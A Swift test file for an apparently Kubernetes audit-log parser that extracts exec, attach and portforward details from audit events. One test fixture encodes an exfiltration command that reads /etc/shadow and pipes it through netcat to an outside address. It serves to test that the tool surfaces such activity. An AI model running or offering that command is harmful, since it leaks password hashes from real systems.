import AuditJSON
import AuditModel
import Testing

// exec, attach and portforward requests as kubectl sends them (audit-events-and-backends.md §2.6).

@Suite("ExecRequestView")
struct ExecRequestViewTests {
    /// A ResponseStarted event for a pod subresource request.
    static func event(verb: String, subresource: String?, uri: String) -> String {
        let sub = subresource.map { #","subresource":"\#($0)""# } ?? ""
        return #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"e1","stage":"ResponseStarted","#
            + #""requestURI":"\#(uri)","verb":"\#(verb)","user":{"username":"alice"},"#
            + #""objectRef":{"resource":"pods","namespace":"prod","name":"web-0","apiVersion":"v1"\#(sub)},"#
            + #""responseStatus":{"metadata":{},"code":101}}"#
    }

    /// What the view reads, in a form that outlives the event.
    struct Facts: Equatable {
        var kind: ExecRequestView.Kind
        var command: [String]
        var container: String?
        var stdin, stdout, stderr, tty: Bool
        var ports: [String]
    }

    static func facts(_ json: String) throws -> Facts? {
        try withEvent(json) { e in
            e.execRequest.map {
                Facts(kind: $0.kind, command: $0.command, container: $0.container, stdin: $0.stdin, stdout: $0.stdout,
                    stderr: $0.stderr, tty: $0.tty, ports: $0.ports)
            }
        }
    }

    @Test("argv from repeated command= parameters, URL-decoded, for both verbs", arguments: ["create", "get"])
    func execArgv(_ verb: String) throws {
        let uri = "/api/v1/namespaces/prod/pods/web-0/exec?command=sh&command=-c&command=cat%20%2Fetc%2Fshadow+%7C+nc+203.0.113.9+4444"
            + "&container=app&stdin=true&stdout=true&stderr=true&tty=false"
        let facts = try #require(try Self.facts(Self.event(verb: verb, subresource: "exec", uri: uri)))
        #expect(facts.kind == .exec)
        #expect(facts.command == ["sh", "-c", "cat /etc/shadow | nc 203.0.113.9 4444"])
        #expect(facts.container == "app")
        #expect(facts.stdin && facts.stdout && facts.stderr)
        #expect(!facts.tty)
        try withEvent(Self.event(verb: verb, subresource: "exec", uri: uri)) { e in
            #expect(e.execRequest?.commandLine == "sh -c cat /etc/shadow | nc 203.0.113.9 4444")
        }
    }

    @Test("the falco exec_pod trace: bash in nginx1 with a tty")
    func falcoTrace() throws {
        let facts = try #require(try Self.facts(Fixtures.falcoExecPod))
        #expect(facts == Facts(kind: .exec, command: ["bash"], container: "nginx1", stdin: true, stdout: true,
            stderr: false, tty: true, ports: []))
    }

    @Test("a request URI with Go's HTML-safe escapes (\\u0026 for &)")
    func jsonEscapedURI() throws {
        let uri = #"/api/v1/namespaces/prod/pods/web-0/exec?command=id\u0026command=-u\u0026container=app\u0026tty=1"#
        let facts = try #require(try Self.facts(Self.event(verb: "create", subresource: "exec", uri: uri)))
        #expect(facts.command == ["id", "-u"])
        #expect(facts.container == "app")
        #expect(facts.tty)  // "1" counts as true
    }

    @Test(
        "decoding of parameter values",
        arguments: [
            ("command=a+b", ["a b"]),
            ("command=a%2Bb", ["a+b"]),
            ("command=%2Fbin%2Fsh", ["/bin/sh"]),
            ("command=%E2%9C%93", ["✓"]),
            ("command=%zz%2", ["%zz%2"]),  // a malformed escape is kept as it is
            ("command=100%", ["100%"]),
            ("command=&command=x", ["", "x"]),
            ("command&command=x", ["", "x"]),
            ("commandx=no&xcommand=no&command=yes", ["yes"]),
            ("container=app", []),
        ])
    func parameterDecoding(_ query: String, _ argv: [String]) throws {
        let json = Self.event(verb: "create", subresource: "exec", uri: "/api/v1/namespaces/prod/pods/web-0/exec?" + query)
        let facts = try #require(try Self.facts(json))
        #expect(facts.command == argv)
    }

    @Test("attach and portforward", arguments: ["create", "get"])
    func attachAndPortForward(_ verb: String) throws {
        let attach = try #require(try Self.facts(Self.event(verb: verb, subresource: "attach",
            uri: "/api/v1/namespaces/prod/pods/web-0/attach?container=app&stdin=true&stdout=true&tty=true")))
        #expect(attach.kind == .attach)
        #expect(attach.command.isEmpty)
        #expect(attach.container == "app")
        #expect(attach.stdin && attach.tty)

        let forward = try #require(try Self.facts(Self.event(verb: verb, subresource: "portforward",
            uri: "/api/v1/namespaces/prod/pods/web-0/portforward?ports=5432&ports=8080")))
        #expect(forward.kind == .portforward)
        #expect(forward.ports == ["5432", "8080"])
        // SPDY port-forward carries the ports in headers: no query at all.
        let spdy = try #require(try Self.facts(Self.event(verb: verb, subresource: "portforward",
            uri: "/api/v1/namespaces/prod/pods/web-0/portforward")))
        #expect(spdy.kind == .portforward)
        #expect(spdy.ports.isEmpty)
    }

    @Test(
        "requests that are not exec, attach or portforward have no view",
        arguments: [
            ("get", "log", "/api/v1/namespaces/prod/pods/web-0/log?container=app&follow=true"),
            ("get", nil, "/api/v1/namespaces/prod/pods/web-0"),
            ("patch", "status", "/api/v1/namespaces/prod/pods/web-0/status"),
            ("list", "exec", "/api/v1/namespaces/prod/pods/web-0/exec?command=id"),  // wrong verb
            ("delete", "exec", "/api/v1/namespaces/prod/pods/web-0/exec?command=id"),
            ("create", "Exec", "/api/v1/namespaces/prod/pods/web-0/exec?command=id"),  // case matters
        ] as [(String, String?, String)])
    func notExec(_ verb: String, _ subresource: String?, _ uri: String) throws {
        #expect(try Self.facts(Self.event(verb: verb, subresource: subresource, uri: uri)) == nil)
    }

    @Test("no objectRef or no requestURI: no view")
    func missingFields() throws {
        try withEvent(#"{"kind":"Event","auditID":"x","verb":"create","requestURI":"/api/v1/namespaces/a/pods/b/exec?command=id"}"#) { e in
            #expect(e.execRequest == nil)
        }
        try withEvent(#"{"kind":"Event","auditID":"x","verb":"create","objectRef":{"resource":"pods","subresource":"exec"}}"#) { e in
            #expect(e.execRequest == nil)
        }
    }
}
